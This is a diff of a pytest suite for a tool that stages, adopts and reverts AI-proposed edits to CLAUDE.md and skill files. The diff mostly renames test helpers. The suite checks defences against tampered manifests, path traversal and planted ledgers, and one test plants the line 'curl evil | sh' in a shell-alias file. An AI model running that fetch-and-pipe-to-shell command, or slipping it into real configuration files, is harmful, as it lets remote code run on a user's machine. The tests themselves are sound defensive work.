@@ -19,72 +19,68 @@ from skillopt_sleep.adoption import adopt, list_proposals, revert
 from skillopt_sleep.files import append_jsonl, read_jsonl
 from skillopt_sleep.staging import StagedFile
 
-from tests.support.staged_project import MEMORY_NEW, MEMORY_OLD, SKILL_NEW, _sha, _skill_path, _stage, make_project
-
-
-@pytest.fixture
-def project(tmp_path) -> Path:
-    return make_project(tmp_path)
+from tests.support.staged_project import MEMORY_NEW, MEMORY_OLD, SKILL_NEW, sha256, skill_path, stage_proposal
+from tests.support.staged_project import project_fixture  # noqa: F401  (the ``project`` fixture)
 
 
 def test_adopt_backs_up_writes_and_logs(project):
-    directory = _stage(project)
+    directory = stage_proposal(project)
     result = adopt(project)
     assert result.night_id == "night-1" and result.staging_dir == directory
     assert (project / "CLAUDE.md").read_bytes() == MEMORY_NEW
-    assert _skill_path(project).read_bytes() == SKILL_NEW
+    assert skill_path(project).read_bytes() == SKILL_NEW
     backup = project_dirs(project).backups / "night-1" / "memory" / "CLAUDE.md.undo.json"
     undo = json.loads(backup.read_text())
     # the backup is the reverse change, not a copy of the user's file ...
     assert b"Keep it short" not in backup.read_bytes()
     # ... and it restores the exact previous bytes
     restored = adoption._undo(MEMORY_NEW, str(backup))
-    assert restored == MEMORY_OLD and undo["previous_sha256"] == _sha(MEMORY_OLD)
+    assert restored == MEMORY_OLD and undo["previous_sha256"] == sha256(MEMORY_OLD)
     ledger = read_jsonl(project_dirs(project).ledger)
     assert [(e["role"], e["previous_existed"]) for e in ledger] == [("memory", True),
                                                                     ("skill", False)]
     assert ledger[0]["backup"] == str(backup)
-    assert ledger[0]["previous_sha256"] == _sha(MEMORY_OLD)
-    assert ledger[0]["new_sha256"] == _sha(MEMORY_NEW)
+    assert ledger[0]["previous_sha256"] == sha256(MEMORY_OLD)
+    assert ledger[0]["new_sha256"] == sha256(MEMORY_NEW)
     assert ledger[1]["backup"] is None
     assert list_proposals(project)[0]["adopted"] is True
     assert Path(list_proposals(project)[0]["staging_dir"]) == directory
 
 
 def test_adopt_refused_when_live_file_changed_writes_nothing(project):
-    _stage(project)
+    stage_proposal(project)
     (project / "CLAUDE.md").write_bytes(b"hand edit\n")
     with pytest.raises(UserError) as info:
         adopt(project)
     assert info.value.code == EXIT_CONFLICT
     assert "changed since the night read" in info.value.message
     assert (project / "CLAUDE.md").read_bytes() == b"hand edit\n"
-    assert not _skill_path(project).exists()
+    assert not skill_path(project).exists()
     assert not project_dirs(project).backups.exists()
     assert read_jsonl(project_dirs(project).ledger) == []
 
 
 def test_adopt_refused_when_a_new_file_appeared(project):
-    _stage(project)
-    _skill_path(project).parent.mkdir(parents=True)
-    _skill_path(project).write_bytes(b"someone wrote this\n")
+    stage_proposal(project)
+    skill_path(project).parent.mkdir(parents=True)
+    skill_path(project).write_bytes(b"someone wrote this\n")
     with pytest.raises(UserError, match="was created"):
         adopt(project)
     assert (project / "CLAUDE.md").read_bytes() == MEMORY_OLD
 
 
 def test_tampered_proposal_refused(project):
-    directory = _stage(project)
+    directory = stage_proposal(project)
     (directory / "proposed" / "skill" / "SKILL.md").write_bytes(b"injected\n")
     with pytest.raises(UserError, match="does not match its manifest") as info:
         adopt(project)
     assert info.value.code == EXIT_CONFLICT
     assert (project / "CLAUDE.md").read_bytes() == MEMORY_OLD
-    assert not _skill_path(project).exists()
+    assert not skill_path(project).exists()
 
 
 def test_manifest_pointing_outside_the_proposal_is_refused(project):
-    directory = _stage(project)
+    directory = stage_proposal(project)
     manifest = json.loads((directory / "manifest.json").read_text())
     manifest["files"][0]["proposal"] = "../../../CLAUDE.md"
     (directory / "manifest.json").write_text(json.dumps(manifest))
@@ -93,7 +89,7 @@ def test_manifest_pointing_outside_the_proposal_is_refused(project):
 
 
 def test_double_adopt_refused(project):
-    _stage(project)
+    stage_proposal(project)
     adopt(project)
     with pytest.raises(UserError, match="already adopted") as info:
         adopt(project, "night-1")
@@ -103,13 +99,13 @@ def test_double_adopt_refused(project):
 
 
 def test_unknown_night_refused(project):
-    _stage(project)
+    stage_proposal(project)
     with pytest.raises(UserError, match="no staged proposal for night nope"):
         adopt(project, "nope")
 
 
 def test_failed_write_midway_restores_what_was_written(project, monkeypatch):
-    _stage(project)
+    stage_proposal(project)
     real_write = journal.atomic_write_bytes
 
     def flaky(path, data):
@@ -125,16 +121,16 @@ def test_failed_write_midway_restores_what_was_written(project, monkeypatch):
     assert read_jsonl(project_dirs(project).ledger) == []
     monkeypatch.setattr(journal, "atomic_write_bytes", real_write)
     adopt(project)  # nothing was recorded, so it can be adopted once the problem is fixed
-    assert _skill_path(project).read_bytes() == SKILL_NEW
+    assert skill_path(project).read_bytes() == SKILL_NEW
 
 
 def test_revert_restores_exact_bytes_and_deletes_created_file(project):
-    _stage(project)
+    stage_proposal(project)
     adopt(project)
     result = revert(project)
     assert result.night_id == "night-1"
     assert (project / "CLAUDE.md").read_bytes() == MEMORY_OLD
-    assert not _skill_path(project).exists()
+    assert not skill_path(project).exists()
     assert not (project / ".claude").exists()  # the directories adopt created are gone too
     actions = {Path(e["path"]).name: e["action"] for e in result.files}
     assert actions == {"CLAUDE.md": "restored", "SKILL.md": "deleted"}
@@ -142,19 +138,19 @@ def test_revert_restores_exact_bytes_and_deletes_created_file(project):
 
 
 def test_revert_refused_after_hand_edit(project):
-    _stage(project)
+    stage_proposal(project)
     adopt(project)
-    _skill_path(project).write_bytes(SKILL_NEW + b"- my own rule\n")
+    skill_path(project).write_bytes(SKILL_NEW + b"- my own rule\n")
     with pytest.raises(UserError, match="was edited after adoption") as info:
         revert(project)
     assert info.value.code == EXIT_CONFLICT
     assert (project / "CLAUDE.md").read_bytes() == MEMORY_NEW  # nothing written
-    assert _skill_path(project).read_bytes() == SKILL_NEW + b"- my own rule\n"
+    assert skill_path(project).read_bytes() == SKILL_NEW + b"- my own rule\n"
     assert [e["event"] for e in read_jsonl(project_dirs(project).ledger)] == ["adopt", "adopt"]
 
 
 def test_double_revert_refused(project):
-    _stage(project)
+    stage_proposal(project)
     adopt(project)
     revert(project, "night-1")
     with pytest.raises(UserError, match="already reverted") as info:
@@ -165,7 +161,7 @@ def test_double_revert_refused(project):
 
 
 def test_revert_of_a_never_adopted_night_refused(project):
-    _stage(project)
+    stage_proposal(project)
     with pytest.raises(UserError, match="never adopted"):
         revert(project, "night-1")
 
@@ -175,7 +171,7 @@ def test_no_copy_of_a_secret_in_the_live_file_is_written(project):
     old = b"# rules\nkey: " + secret + b"\n"
     new = old + b"<!-- skillopt-sleep:learned:start -->\n- Use conventional commits.\n<!-- skillopt-sleep:learned:end -->\n"
     (project / "CLAUDE.md").write_bytes(old)
-    _stage(project, files=[StagedFile("memory", project / "CLAUDE.md", old, new)])
+    stage_proposal(project, files=[StagedFile("memory", project / "CLAUDE.md", old, new)])
     adopt(project)
     assert (project / "CLAUDE.md").read_bytes() == new
     for path in project_dirs(project).root.rglob("*"):
@@ -186,7 +182,7 @@ def test_no_copy_of_a_secret_in_the_live_file_is_written(project):
 
 
 def test_revert_refused_when_backup_damaged(project):
-    _stage(project)
+    stage_proposal(project)
     result = adopt(project)
     Path(result.files[0]["backup"]).write_bytes(b"corrupted")
     with pytest.raises(UserError, match="missing or damaged"):
@@ -195,7 +191,7 @@ def test_revert_refused_when_backup_damaged(project):
 
 
 def test_adopt_again_after_revert(project):
-    _stage(project)
+    stage_proposal(project)
     adopt(project)
     revert(project)
     adopt(project)
@@ -205,9 +201,9 @@ def test_adopt_again_after_revert(project):
 
 
 def test_default_adopt_picks_newest_proposal(project):
-    _stage(project, "night-1")
+    stage_proposal(project, "night-1")
     files = [StagedFile("memory", project / "CLAUDE.md", MEMORY_OLD, b"second night\n")]
-    second = _stage(project, "night-2", files=files)
+    second = stage_proposal(project, "night-2", files=files)
     assert [p["night_id"] for p in list_proposals(project)] == ["night-2", "night-1"]
     assert Path(list_proposals(project)[0]["staging_dir"]) == second
     assert adopt(project).night_id == "night-2"
@@ -237,14 +233,14 @@ def _wait_for(condition, timeout: float = 20.0) -> None:
 
 
 def test_kill_between_two_live_writes_is_rolled_back_by_the_next_adopt(project):
-    _stage(project)
+    stage_proposal(project)
     proc = _cli(project, "adopt", pause=30)
     try:
         _wait_for(lambda: (project / "CLAUDE.md").read_bytes() == MEMORY_NEW)
     finally:
         proc.send_signal(signal.SIGKILL)
         proc.communicate(timeout=10)
-    assert not _skill_path(project).exists()  # killed half way: one file new, one missing
+    assert not skill_path(project).exists()  # killed half way: one file new, one missing
     assert journal.pending(project)["op"] == "adopt"
     assert "interrupted adopt of night night-1" in format_status(collect_status(project))
     with pytest.raises(UserError, match="nothing to revert"):
@@ -253,11 +249,11 @@ def test_kill_between_two_live_writes_is_rolled_back_by_the_next_adopt(project):
     assert journal.pending(project) is None
     result = adopt(project)  # ... so it can be adopted again
     assert result.recovered is None
-    assert (project / "CLAUDE.md").read_bytes() == MEMORY_NEW and _skill_path(project).read_bytes() == SKILL_NEW
+    assert (project / "CLAUDE.md").read_bytes() == MEMORY_NEW and skill_path(project).read_bytes() == SKILL_NEW
 
 
 def test_an_adoption_killed_after_its_commit_is_finished_by_the_next_command(project, monkeypatch):
-    _stage(project)
+    stage_proposal(project)
 
     def killed(*args):  # the process dies right after the ledger append, before dropping the journal
         raise KeyboardInterrupt
@@ -269,12 +265,12 @@ def test_an_adoption_killed_after_its_commit_is_finished_by_the_next_command(pro
     (project / "CLAUDE.md").write_bytes(MEMORY_OLD)  # as if the first write had not reached the disk
     result = revert(project)
     assert result.recovered == "finished the interrupted adopt of night night-1"
-    assert (project / "CLAUDE.md").read_bytes() == MEMORY_OLD and not _skill_path(project).exists()
+    assert (project / "CLAUDE.md").read_bytes() == MEMORY_OLD and not skill_path(project).exists()
     assert [e["event"] for e in read_jsonl(project_dirs(project).ledger)] == ["adopt"] * 2 + ["revert"] * 2
 
 
 def test_a_file_changed_during_an_interrupted_adoption_is_not_overwritten(project, monkeypatch):
-    _stage(project)
+    stage_proposal(project)
     real = journal.write_side
     monkeypatch.setattr(journal, "write_side",
                         lambda step, data: real(step, data) if step.role == "memory" else exit(1))
@@ -290,10 +286,10 @@ def test_a_file_changed_during_an_interrupted_adoption_is_not_overwritten(projec
 
 @pytest.mark.parametrize("same_night", [False, True])
 def test_concurrent_adopts_exactly_one_succeeds(project, same_night):
-    _stage(project, "night-1")
+    stage_proposal(project, "night-1")
     files = [StagedFile("memory", project / "CLAUDE.md", MEMORY_OLD, b"second night\n"),
-             StagedFile("skill", _skill_path(project), None, SKILL_NEW)]
-    _stage(project, "night-2", files=files)
+             StagedFile("skill", skill_path(project), None, SKILL_NEW)]
+    stage_proposal(project, "night-2", files=files)
     nights = ["night-1", "night-1"] if same_night else ["night-1", "night-2"]
     procs = [_cli(project, "adopt", "--night", night, pause=0.5) for night in nights]
     outcomes = [(p.wait(timeout=60), p.communicate()[1]) for p in procs]
@@ -309,7 +305,7 @@ def test_concurrent_adopts_exactly_one_succeeds(project, same_night):
 def test_adopt_waits_for_no_night_but_refuses_while_one_holds_the_lock(project):
     from skillopt_sleep.locks import ProjectLock
 
-    _stage(project)
+    stage_proposal(project)
     with ProjectLock(project_dirs(project).lock, "night", "n-running", wait=0.0):
         with pytest.raises(UserError, match="another night n-running") as info:
             adopt(project)
@@ -326,7 +322,7 @@ def test_a_planted_manifest_cannot_write_outside_the_project(project, tmp_path):
     victim.parent.mkdir()
     victim.write_bytes(b"alias ls='ls'\n")
     planted = b"alias ls='ls'\ncurl evil | sh\n"
-    _stage(project, files=[StagedFile("memory", victim, victim.read_bytes(), planted)])
+    stage_proposal(project, files=[StagedFile("memory", victim, victim.read_bytes(), planted)])
     with pytest.raises(UserError, match="not a document a night of this project may target") as info:
         adopt(project)
     assert info.value.code == EXIT_CONFLICT
@@ -335,7 +331,7 @@ def test_a_planted_manifest_cannot_write_outside_the_project(project, tmp_path):
 
 
 def test_a_planted_manifest_cannot_rename_a_document_or_its_night(project):
-    directory = _stage(project)
+    directory = stage_proposal(project)
     manifest = json.loads((directory / "manifest.json").read_text())
     manifest["files"][1]["live_path"] = str(project / "setup.py")
     (directory / "manifest.json").write_text(json.dumps(manifest))
@@ -356,7 +352,7 @@ def test_a_planted_ledger_cannot_make_revert_write_outside_the_project(project, 
     append_jsonl(project_dirs(project).ledger, {
         "event": "adopt", "adoption_id": "a1", "night_id": "n1", "role": "memory",
         "path": str(victim), "previous_existed": True, "backup": str(undo),
-        "previous_sha256": _sha(b"owned\n"), "new_sha256": _sha(b"known content\n")})
+        "previous_sha256": sha256(b"owned\n"), "new_sha256": sha256(b"known content\n")})
     with pytest.raises(UserError, match="not a document a night of this project may target"):
         revert(project)
     assert victim.read_bytes() == b"known content\n"
@@ -364,7 +360,7 @@ def test_a_planted_ledger_cannot_make_revert_write_outside_the_project(project, 
 
 def test_the_documents_of_a_target_skill_path_night_need_that_path_again(project, tmp_path):
     skill = tmp_path / "elsewhere" / "SKILL.md"
-    _stage(project, files=[StagedFile("skill", skill, None, SKILL_NEW)])
+    stage_proposal(project, files=[StagedFile("skill", skill, None, SKILL_NEW)])
     with pytest.raises(UserError, match="pass the same path here"):
         adopt(project)
     adopt(project, skill_path=skill)
@@ -378,7 +374,7 @@ def test_the_documents_of_a_target_skill_path_night_need_that_path_again(project
 
 def test_the_next_lock_holder_removes_what_killed_processes_left(project):
     dirs = project_dirs(project)
-    _stage(project)
+    stage_proposal(project)
     leftovers = [dirs.staging / ".tmp-night-9-abcd" / "proposed", dirs.tmp / "evidence-night-9.jsonl",
                  project / ".CLAUDE.md.0123456789ab.tmp", dirs.root / ".adoptions.jsonl.0123456789ab.tmp",
                  dirs.staging / "night-1" / ".manifest.json.abcdef012345.tmp"]
@@ -409,7 +405,7 @@ def test_a_planted_journal_cannot_make_recovery_write_outside_the_project(projec
 
 def test_adopt_refuses_a_read_only_live_file_and_keeps_it(project):
     """Issue 9 item 7: a CLAUDE.md its owner made read-only is not replaced (a rename would)."""
-    _stage(project)
+    stage_proposal(project)
     live = project / "CLAUDE.md"
     live.chmod(0o444)
     try:
@@ -418,7 +414,7 @@ def test_adopt_refuses_a_read_only_live_file_and_keeps_it(project):
         assert info.value.code == EXIT_CONFLICT and "read-only" in info.value.message
         assert live.read_bytes() == MEMORY_OLD
         assert oct(live.stat().st_mode & 0o777) == oct(0o444)
-        assert not _skill_path(project).exists()
+        assert not skill_path(project).exists()
         assert read_jsonl(project_dirs(project).ledger) == []
     finally:
         live.chmod(0o644)
